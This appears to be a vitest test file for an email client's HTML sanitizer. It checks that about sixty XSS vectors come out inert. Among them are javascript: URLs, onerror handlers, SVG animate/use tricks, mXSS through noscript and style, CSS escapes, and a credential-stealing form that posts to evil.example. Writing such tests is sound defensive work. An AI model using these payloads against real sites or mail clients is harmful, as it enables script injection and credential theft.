import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { BLOCKED_SRC_ATTR, sanitizeHtml, textToHtml } from './sanitize';

/** Asserts the sanitised HTML holds nothing that could run, navigate or fetch by itself. */
function assertInert(html: string) {
  const doc = new JSDOM(html).window.document;
  const all = [...doc.querySelectorAll('*')];
  for (const el of all) {
    const tag = el.tagName.toLowerCase();
    expect(['script', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'base', 'meta', 'link', 'svg', 'math',
      'frame', 'frameset', 'applet', 'video', 'audio', 'source', 'template', 'noscript', 'textarea', 'select']).not.toContain(tag);
    for (const attr of [...el.attributes]) {
      const name = attr.name.toLowerCase();
      expect(name.startsWith('on'), `${tag}[${name}]`).toBe(false);
      expect(['srcset', 'formaction', 'action', 'xlink:href', 'http-equiv', 'ping', 'poster']).not.toContain(name);
      if (['href', 'src', 'background', 'action'].includes(name)) {
        const v = attr.value.trim().toLowerCase();
        expect(v, `${tag}[${name}]`).not.toMatch(/^(?:javascript|vbscript|file|data:text|data:application):?/);
        if (name !== 'href') expect(v, `${tag}[${name}] loads a remote resource`).not.toMatch(/^(?:https?:)?\/\//);
      }
      if (name === 'style') expect(attr.value).not.toMatch(/url\(\s*['"]?(?:https?:)?\/\//i);
    }
    if (tag === 'a' && el.hasAttribute('href')) {
      expect(el.getAttribute('target')).toBe('_blank');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer');
    }
    if (tag === 'style') expect(el.textContent ?? '').not.toMatch(/@import|url\(\s*['"]?(?:https?:)?\/\//i);
  }
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/(?:href|src)\s*=\s*["']?\s*javascript:/i);
}

// Vectors after the DOMPurify fixtures, Cure53 H5SC, the OWASP filter-evasion cheat sheet and the
// Roundcube CVEs (SVG animate/use, namespace tricks, CSS escapes), written as our own cases.
const VECTORS: Array<[string, string]> = [
  ['script', '<script>alert(1)</script>'],
  ['script in head', '<html><head><script>alert(1)</script></head><body>x</body></html>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror no quotes', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['javascript href entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript href colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['javascript href upper', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['file link', '<a href="file:///etc/passwd">x</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['meta refresh in body', '<body><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></body>'],
  ['base', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['form', '<form action="https://evil.example/steal"><input name=p type=password><button>go</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>'],
  ['svg set href ns', '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>'],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mXSS style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['body onload', '<body onload=alert(1)>x</body>'],
  ['video poster', '<video poster="https://evil.example/p.png"><source src=x onerror=alert(1)></video>'],
  ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['style import', '<style>@import url(https://evil.example/x.css); p{color:red}</style>'],
  ['style import string', '<style>@import "https://evil.example/x.css";</style>'],
  ['style remote url', '<style>body{background:url("https://evil.example/t.png")}</style>'],
  ['style attr remote url', '<div style="background-image:url(https://evil.example/t.png)">x</div>'],
  ['style attr css escape', '<div style="background:\\75 rl(https://evil.example/t.png)">x</div>'],
  ['style attr escaped letters', '<div style="background:u\\rl(https://evil.example/t.png)">x</div>'],
  ['style image-set', '<div style="background-image:image-set(\'https://evil.example/t.png\' 1x)">x</div>'],
  ['style expression', '<div style="width:expression(alert(1))">x</div>'],
  ['td background', '<table><tr><td background="https://evil.example/t.png">x</td></tr></table>'],
  ['img srcset', '<img srcset="https://evil.example/t.png 1x">'],
  ['img relative src', '<img src="/api/image-proxy?url=https://evil.example/t.png">'],
  ['img protocol-relative src', '<img src="//evil.example/t.png">'],
  ['data svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['input image', '<input type=image src="https://evil.example/t.png">'],
  ['a ping', '<a href="https://ok.example" ping="https://evil.example/ping">x</a>'],
  ['target top', '<a href="https://ok.example" target="_top">x</a>'],
  ['relative link', '<a href="/api/account/1/alias/1/message/1">x</a>'],
  ['protocol-relative link', '<a href="//evil.example/">x</a>'],
  ['area', '<map><area href="javascript:alert(1)"></map>'],
  ['namespace attr', '<p xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)">x</p>'],
  ['dom clobbering', '<form id=x><input id=y></form><img name=body>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['unclosed comment', '<!--<img src=x onerror=alert(1)>--!><img src=x onerror=alert(2)>'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['nested quotes', '<img """><script>alert(1)</script>">'],
  ['tracking pixel', '<img src="https://tracker.example/p.gif" width="1" height="1">'],
];

describe('sanitizeHtml: XSS vectors (H1, H12)', () => {
  it.each(VECTORS)('%s', (_name, vector) => {
    assertInert(sanitizeHtml(vector).html);
    assertInert(sanitizeHtml(vector, { remoteImages: 'proxy', proxyUrl: (u) => `/api/image-proxy?url=${encodeURIComponent(u)}` }).html
      .replace(/src="\/api\/image-proxy[^"]*"/g, ''));
  });
});

describe('sanitizeHtml: links and images', () => {
  it('keeps harmless markup and gives links target/rel', () => {
    const { html } = sanitizeHtml('<p style="color:red">Hi <a href="https://ok.example/x?a=1&b=2">there</a></p>');
    const doc = new JSDOM(html).window.document;
    const a = doc.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://ok.example/x?a=1&b=2');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(doc.querySelector('p')!.getAttribute('style')).toBe('color:red');
  });

  it('drops relative and protocol-relative links', () => {
    const doc = new JSDOM(sanitizeHtml('<a href="/api/x">a</a><a href="//evil.example/">b</a><a href="#top">c</a>').html).window.document;
    const hrefs = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual([null, null, '#top']);
  });

  it('keeps the head styles of a whole document', () => {
    const { html } = sanitizeHtml('<html><head><style>p{color:blue}</style></head><body><p>x</p></body></html>');
    expect(html).toContain('p{color:blue}');
  });

  it('blocks remote images by default and keeps the original URL aside', () => {
    const r = sanitizeHtml('<img src="https://img.example/a.png" width="300">');
    const img = new JSDOM(r.html).window.document.querySelector('img')!;
    expect(img.hasAttribute('src')).toBe(false);
    expect(img.getAttribute(BLOCKED_SRC_ATTR)).toBe('https://img.example/a.png');
    expect(r.blockedImages).toBe(1);
  });

  it('proxies remote images when asked, but never tracking pixels (H7)', () => {
    const html =
      '<img src="https://img.example/a.png"><img src="https://t.example/p.gif" width="1" height="1">' +
      '<img src="https://t.example/q.gif" style="width:1px;height:1px"><img src="https://t.example/r.gif" style="max-height: 2px">' +
      '<img src="https://t.example/s.gif" style="display:none">';
    const r = sanitizeHtml(html, { remoteImages: 'proxy', proxyUrl: (u) => `/api/image-proxy?url=${encodeURIComponent(u)}` });
    const imgs = [...new JSDOM(r.html).window.document.querySelectorAll('img')];
    expect(imgs[0]!.getAttribute('src')).toBe('/api/image-proxy?url=https%3A%2F%2Fimg.example%2Fa.png');
    for (const img of imgs.slice(1)) expect(img.hasAttribute('src')).toBe(false);
    expect(r.trackers).toBe(4);
  });

  it('maps cid: images to attachment URLs and keeps data: images', () => {
    const r = sanitizeHtml('<img src="cid:logo@shop"><img src="cid:missing"><img src="data:image/png;base64,AAAA">' +
      '<div style="background:url(cid:logo@shop)">x</div>', {
      cidUrl: (cid) => (cid === 'logo@shop' ? '/api/att/1?inline=1' : null),
    });
    const doc = new JSDOM(r.html).window.document;
    const imgs = [...doc.querySelectorAll('img')];
    expect(imgs[0]!.getAttribute('src')).toBe('/api/att/1?inline=1');
    expect(imgs[1]!.hasAttribute('src')).toBe(false);
    expect(imgs[2]!.getAttribute('src')).toBe('data:image/png;base64,AAAA');
    expect(doc.querySelector('div')!.getAttribute('style')).toBe('background:url("/api/att/1?inline=1")');
  });
});

describe('textToHtml (H8)', () => {
  it.each([
    `http://example.com?"onmouseover="alert('XSS')"`,
    'http://example.com/<script>alert(1)</script>',
    'a@a.co?]<img/src="x"/onerror=alert(document.domain)>',
    'javascript:alert(1) and <b>bold</b>',
  ])('%s renders inert', (text) => {
    const html = textToHtml(text);
    assertInert(html);
    const doc = new JSDOM(html).window.document;
    expect(doc.querySelectorAll('img, b, script').length).toBe(0);
    for (const a of doc.querySelectorAll('a')) expect([...a.attributes].map((x) => x.name).sort()).toEqual(['href', 'rel', 'target']);
    expect(doc.body.textContent).toContain(text.slice(0, 10));
  });

  it('links URLs without trailing punctuation', () => {
    const doc = new JSDOM(textToHtml('See https://ok.example/path. Thanks')).window.document;
    expect(doc.querySelector('a')!.getAttribute('href')).toBe('https://ok.example/path');
    expect(doc.body.textContent).toContain('See https://ok.example/path. Thanks');
  });
});
